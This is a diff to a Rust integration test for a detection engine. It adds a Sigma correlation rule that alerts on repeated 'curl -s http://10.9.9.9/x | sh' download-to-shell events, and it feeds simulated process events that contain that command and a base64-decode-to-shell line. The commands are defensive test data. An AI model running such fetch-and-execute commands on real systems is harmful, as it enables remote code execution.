@@ -370,6 +370,40 @@ fn live_detection_raises_folded_alerts_with_evidence() {
     let srv = tempdir("detect-srv");
     let rules = srv.join("rules");
     std::fs::create_dir_all(&rules).unwrap();
+    // A correlation over a base rule that does not alert on its own: three curl|sh in 5 min.
+    std::fs::write(
+        rules.join("corr.yml"),
+        r#"title: Download To Shell Base
+name: dl_to_shell
+id: 5b7f6a4e-0000-4000-8000-00000000c0d1
+status: test
+level: low
+logsource:
+    product: linux
+    category: process_creation
+detection:
+    selection:
+        CommandLine|contains: 'curl -s http://10.9.9.9/x | sh'
+    condition: selection
+---
+title: Repeated Download To Shell
+id: 5b7f6a4e-0000-4000-8000-00000000c0d2
+status: test
+level: high
+tags:
+    - attack.command-and-control
+correlation:
+    type: event_count
+    rules:
+        - dl_to_shell
+    group-by:
+        - CommandLine
+    timespan: 5m
+    condition:
+        gte: 3
+"#,
+    )
+    .unwrap();
     std::fs::write(
         rules.join("test.yml"),
         "title: Test Encoded Shell\nid: 5b7f6a4e-0000-4000-8000-00000000c0de\nstatus: test\n\
@@ -414,6 +448,10 @@ fn live_detection_raises_folded_alerts_with_evidence() {
     sp.append(exec(100, "echo aGk= | base64 -d | sh").as_bytes())
         .unwrap();
     sp.append(exec(200, "ls /tmp").as_bytes()).unwrap();
+    for pid in [301, 302, 303] {
+        sp.append(exec(pid, "curl -s http://10.9.9.9/x | sh").as_bytes())
+            .unwrap();
+    }
     sp.sync().unwrap();
     drop(sp);
     let shipped = Instant::now();
@@ -429,7 +467,11 @@ fn live_detection_raises_folded_alerts_with_evidence() {
             .lines()
             .map(|l| serde_json::from_str(l).unwrap())
             .collect();
-        if v.first().is_some_and(|a| a["count"] == 2) || Instant::now() > deadline {
+        let corr = v
+            .iter()
+            .any(|a| a["rule_title"] == "Repeated Download To Shell");
+        let folded = v.iter().any(|a| a["count"] == 2);
+        if (corr && folded) || Instant::now() > deadline {
             break v;
         }
         std::thread::sleep(Duration::from_millis(100));
@@ -438,8 +480,30 @@ fn live_detection_raises_folded_alerts_with_evidence() {
         "alert visible {:?} after shipping started",
         shipped.elapsed()
     );
+    // The base rule of the correlation raises nothing by itself.
+    assert!(
+        !alerts
+            .iter()
+            .any(|a| a["rule_title"] == "Download To Shell Base"),
+        "{alerts:?}"
+    );
+    let corr = alerts
+        .iter()
+        .find(|a| a["rule_title"] == "Repeated Download To Shell")
+        .unwrap_or_else(|| panic!("no correlation alert among {alerts:?}"));
+    assert_eq!(corr["level"], "high");
+    assert_eq!(corr["evidence"][0]["correlation"]["count"], 3);
+    assert_eq!(
+        corr["evidence"][0]["events"].as_array().map(Vec::len),
+        Some(3),
+        "the contributing events are the evidence: {corr}"
+    );
+    let alerts: Vec<&serde_json::Value> = alerts
+        .iter()
+        .filter(|a| a["rule_title"] == "Test Encoded Shell")
+        .collect();
     assert_eq!(alerts.len(), 1, "one folded alert: {alerts:?}");
-    let al = &alerts[0];
+    let al = alerts[0];
     assert_eq!(al["count"], 2);
     assert_eq!(al["level"], "high");
     assert_eq!(al["rule_title"], "Test Encoded Shell");
